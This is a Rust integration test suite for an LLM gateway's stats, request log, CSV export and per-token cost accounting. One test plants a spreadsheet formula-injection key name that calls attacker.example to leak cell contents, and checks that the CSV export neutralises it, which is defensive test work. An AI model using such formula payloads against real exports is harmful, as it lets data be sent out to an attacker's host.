//! Stats and the request log agree with what was sent, to the token and nano-USD.

use reqwest::StatusCode;
use serde_json::{json, Value};

use crate::helpers::{spawn_app, user_message};

#[tokio::test]
async fn stats_agree_with_the_request_log_and_the_requests_sent() {
    let app = spawn_app().await;
    let org_a = app.create_org("Stats A").await;
    let org_b = app.create_org("Stats B").await;
    let (key_a, secret_a) = app.issue_key(&org_a, "read").await;
    let (_, secret_b) = app.issue_key(&org_b, "read").await;
    let mut sent_tokens = [0_i64; 2];
    for i in 0..9 {
        let (secret, slot) = if i % 3 == 0 { (&secret_b, 1) } else { (&secret_a, 0) };
        let stream = i % 2 == 0;
        let body = json!({"model": format!("echo/m{}", i % 2), "stream": stream, "stream_options": {"include_usage": true},
                          "messages": user_message(&"tok ".repeat(i + 1))});
        let usage: Value = if stream {
            let (_, data) = app.chat_stream(secret, body).await;
            let usage_chunk = data.iter().rev().find(|d| d.contains("\"usage\"")).unwrap();
            serde_json::from_str::<Value>(usage_chunk).unwrap()["usage"].clone()
        } else {
            app.chat(secret, body).await.body["usage"].clone()
        };
        sent_tokens[slot] += usage["total_tokens"].as_i64().unwrap();
    }
    let failed = app.chat(&secret_a, json!({"model": "echo/x", "messages": []})).await;
    assert_eq!(failed.status, StatusCode::BAD_REQUEST, "rejected input is not a request, but a refusal");
    // The refusal is written within a second, apart from the requests.
    for _ in 0..50 {
        let refused = app.get("/v1/logs?status=refused", &app.admin_token).await;
        if refused.body["data"].as_array().is_some_and(|d| d.len() == 1) {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    app.wait_for_projections().await;

    let all = app.get("/v1/stats?group_by=organization", &app.admin_token).await;
    assert_eq!(all.status, StatusCode::OK, "{}", all.body);
    let summary = &all.body["summary"];
    assert_eq!(summary["requests"], json!(9));
    assert_eq!(summary["refused"], json!(1));
    assert_eq!(summary["total_tokens"], json!(sent_tokens[0] + sent_tokens[1]));
    assert_eq!(summary["success_rate"], json!(1.0));
    assert!(summary["latency_ms"]["p50"].is_number() && summary["latency_ms"]["p99"].is_number());
    let groups = all.body["data"].as_array().unwrap();
    let group = |id: &str| groups.iter().find(|g| g["key"] == id).unwrap().clone();
    assert_eq!(group(&org_a)["requests"], json!(6));
    assert_eq!(group(&org_a)["label"], "Stats A");
    assert_eq!(group(&org_a)["total_tokens"], json!(sent_tokens[0]));
    assert_eq!(group(&org_b)["total_tokens"], json!(sent_tokens[1]));

    // The request log lists the same requests with the same totals.
    let logs = app.get("/v1/logs?limit=100", &app.admin_token).await;
    let entries: Vec<&Value> =
        logs.body["data"].as_array().unwrap().iter().filter(|e| e["status"] != "refused").collect();
    assert_eq!(entries.len(), 9);
    let log_tokens: i64 = entries.iter().map(|e| e["total_tokens"].as_i64().unwrap()).sum();
    let log_cost: i64 = entries.iter().map(|e| e["cost_nanos"].as_i64().unwrap()).sum();
    assert_eq!(log_tokens, sent_tokens[0] + sent_tokens[1]);
    assert_eq!(summary["cost_nanos"], json!(log_cost));
    let ids: Vec<&str> = entries.iter().map(|e| e["id"].as_str().unwrap()).collect();
    let mut sorted = ids.clone();
    sorted.sort_unstable_by(|a, b| b.cmp(a));
    assert_eq!(ids, sorted, "newest first");

    // Per day, model, key and organization scopes.
    let by_day = app.get("/v1/stats?group_by=day", &app.admin_token).await;
    assert_eq!(by_day.body["data"].as_array().unwrap().len(), 30, "every day of the default 30-day range");
    let by_model = app.get("/v1/stats?group_by=model", &app.admin_token).await;
    let models: Vec<&str> =
        by_model.body["data"].as_array().unwrap().iter().map(|g| g["key"].as_str().unwrap()).collect();
    // The refused request had no valid model: it counts under none.
    assert_eq!(models, ["", "echo/m0", "echo/m1"]);
    assert_eq!(by_model.body["data"][0]["refused"], 1);
    assert_eq!(by_model.body["data"][0]["requests"], 0);
    let org_stats = app.get(&format!("/v1/organizations/{org_a}/stats"), &app.admin_token).await;
    assert_eq!(org_stats.body["summary"]["requests"], json!(6));
    let key_stats = app.get(&format!("/v1/api-keys/{key_a}/stats?group_by=key"), &app.admin_token).await;
    assert_eq!(key_stats.body["data"][0]["label"], "read key");

    // A key sees its own organization only.
    let own = app.get("/v1/stats", &secret_b).await;
    assert_eq!(own.body["summary"]["requests"], json!(3));
    assert_eq!(app.get(&format!("/v1/organizations/{org_a}/stats"), &secret_b).await.status, StatusCode::NOT_FOUND);
    let own_logs = app.get("/v1/logs", &secret_b).await;
    assert_eq!(own_logs.body["data"].as_array().unwrap().len(), 3);
}

#[tokio::test]
async fn the_request_log_filters_pages_and_exports_csv() {
    let app = spawn_app().await;
    let org = app.create_org("Loggers").await;
    let (key_id, key) = app.issue_key(&org, "read").await;
    for i in 0..5 {
        app.chat(
            &key,
            json!({"model": if i < 3 { "echo/a" } else { "echo/b" }, "messages": user_message("hi, \"there\"")}),
        )
        .await;
    }
    app.wait_for_projections().await;
    let token = &app.admin_token;
    let first = app.get("/v1/logs?limit=2", token).await;
    assert_eq!(first.body["has_more"], json!(true));
    let cursor = first.body["data"][1]["id"].as_str().unwrap();
    let rest = app.get(&format!("/v1/logs?limit=10&after={cursor}"), token).await;
    assert_eq!(rest.body["data"].as_array().unwrap().len(), 3);
    assert_eq!(app.get("/v1/logs?model=echo/a", token).await.body["data"].as_array().unwrap().len(), 3);
    assert_eq!(
        app.get(&format!("/v1/logs?api_key_id={key_id}&status=success"), token).await.body["data"]
            .as_array()
            .unwrap()
            .len(),
        5
    );
    assert_eq!(app.get("/v1/logs?status=error", token).await.body["data"], json!([]));
    assert_eq!(app.get("/v1/logs?from=2999-01-01", token).await.body["data"], json!([]));
    assert_eq!(app.get("/v1/logs?to=2000-01-01T00:00:00Z", token).await.body["data"], json!([]));
    for bad in [
        "/v1/logs?status=maybe",
        "/v1/logs?limit=0",
        "/v1/logs?from=yesterday",
        "/v1/logs?format=xml",
        "/v1/stats?group_by=color",
        "/v1/stats?from=2026-02-01&to=2026-01-01",
    ] {
        assert_eq!(app.get(bad, token).await.status, StatusCode::BAD_REQUEST, "{bad}");
    }
    let csv = app.client.get(app.url("/v1/logs?format=csv")).bearer_auth(token).send().await.unwrap();
    assert!(csv.headers()["content-type"].to_str().unwrap().starts_with("text/csv"));
    let text = csv.text().await.unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 6);
    assert!(lines[0].starts_with("id,created_at,organization_id"));
    assert!(lines[1].contains(",echo/b,echo,"));
}

/// A name a tenant chose (here a `write` key's name for a key it issues) reaches an
/// operator's export as text, never as a spreadsheet formula.
#[tokio::test]
async fn the_csv_export_carries_no_formula_a_tenant_chose() {
    let app = spawn_app().await;
    let org = app.create_org("Formulas").await;
    let (_, writer) = app.issue_key(&org, "write").await;
    let name = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")";
    let issued =
        app.post("/v1/api-keys", &writer, json!({"organization_id": org, "name": name, "permission": "read"})).await;
    assert_eq!(issued.status, StatusCode::CREATED, "{}", issued.body);
    let key = issued.body["key"].as_str().unwrap().to_owned();
    assert_eq!(app.chat(&key, json!({"model": "echo/a", "messages": user_message("hi")})).await.status, StatusCode::OK);
    app.wait_for_projections().await;
    let csv = app.client.get(app.url("/v1/logs?format=csv")).bearer_auth(&app.admin_token).send().await.unwrap();
    let text = csv.text().await.unwrap();
    let row = text.lines().nth(1).unwrap();
    assert!(row.contains(",\"'=HYPERLINK(\"\"http://attacker.example/?\"\"&A1,\"\"open\"\")\","), "{row}");
    assert!(!row.contains(",=") && !row.contains(",\"="), "no field starts a formula: {row}");
}

/// What OpenAI lists for gpt-4o, written here apart from the registry: nano-USD per
/// token for input, cached input and output ($2.50, $1.25 and $10 per million).
const GPT_4O_NANOS_PER_TOKEN: (i64, i64, i64) = (2_500, 1_250, 10_000);

fn expected_cost(usage: &Value) -> i64 {
    let prompt = usage["prompt_tokens"].as_i64().unwrap();
    let completion = usage["completion_tokens"].as_i64().unwrap();
    let cached = usage["prompt_tokens_details"]["cached_tokens"].as_i64().unwrap_or(0);
    let (input, cached_input, output) = GPT_4O_NANOS_PER_TOKEN;
    (prompt - cached) * input + cached * cached_input + completion * output
}

#[tokio::test]
async fn stats_count_the_cost_of_a_priced_model_to_the_nano_usd_and_percentiles_stay_within_the_latencies() {
    use crate::fakes::{self, Behaviour, FakeUpstream, Reply};
    use gaiarouter::gateway::providers::{ApiKey, Upstream};
    let upstream =
        FakeUpstream::start(fakes::openai::router, vec![Behaviour::Answer(Reply::Text("priced".into()))]).await;
    let providers = gaiarouter::gateway::ProvidersConfig {
        openai: Some(Upstream {
            base_url: format!("{}/v1", upstream.origin),
            api_key: Some(ApiKey::new("k").unwrap()),
        }),
        ..Default::default()
    };
    let app = crate::helpers::spawn_app_with(&crate::helpers::fresh_database().await, providers).await;
    let org = app.create_org("Priced").await;
    let (_, key) = app.issue_key(&org, "read").await;
    let (mut cost, mut tokens, mut slowest_ms) = (0_i64, 0_i64, 0_u128);
    for i in 0..7 {
        let stream = i % 2 == 1;
        let body = json!({"model": "openai/gpt-4o", "stream": stream, "stream_options": {"include_usage": true},
                          "messages": user_message(&"word ".repeat(i + 1))});
        let started = std::time::Instant::now();
        let usage = if stream {
            let (status, data) = app.chat_stream(&key, body).await;
            assert_eq!(status, StatusCode::OK);
            let chunk = data.iter().rev().find(|d| d.contains("\"usage\"")).unwrap();
            serde_json::from_str::<Value>(chunk).unwrap()["usage"].clone()
        } else {
            let answer = app.chat(&key, body).await;
            assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
            answer.body["usage"].clone()
        };
        slowest_ms = slowest_ms.max(started.elapsed().as_millis());
        cost += expected_cost(&usage);
        tokens += usage["total_tokens"].as_i64().unwrap();
    }
    assert!(cost > 0);
    app.wait_for_projections().await;
    let stats = app.get("/v1/stats?group_by=model", &app.admin_token).await;
    let summary = &stats.body["summary"];
    assert_eq!(summary["requests"], json!(7));
    assert_eq!(summary["total_tokens"], json!(tokens));
    assert_eq!(summary["cost_nanos"], json!(cost), "cost to the nano-USD");
    assert_eq!(stats.body["data"][0]["cost_nanos"], json!(cost));
    // Percentiles come from a histogram (±5%), but never leave [min, max], and the
    // gateway's own latency is never longer than what the client waited.
    let latency = &summary["latency_ms"];
    let at = |name: &str| latency[name].as_f64().unwrap_or_else(|| panic!("{name} in {latency}"));
    let (min, max) = (at("min"), at("max"));
    assert!(min <= max && max <= slowest_ms as f64, "{latency} vs client-side {slowest_ms} ms");
    for pair in [("min", "p50"), ("p50", "p95"), ("p95", "p99")] {
        assert!(at(pair.0) <= at(pair.1) * 1.05 + 1.0, "{pair:?} out of order: {latency}");
    }
    assert!(at("p99") <= max * 1.05 + 1.0, "{latency}");
}
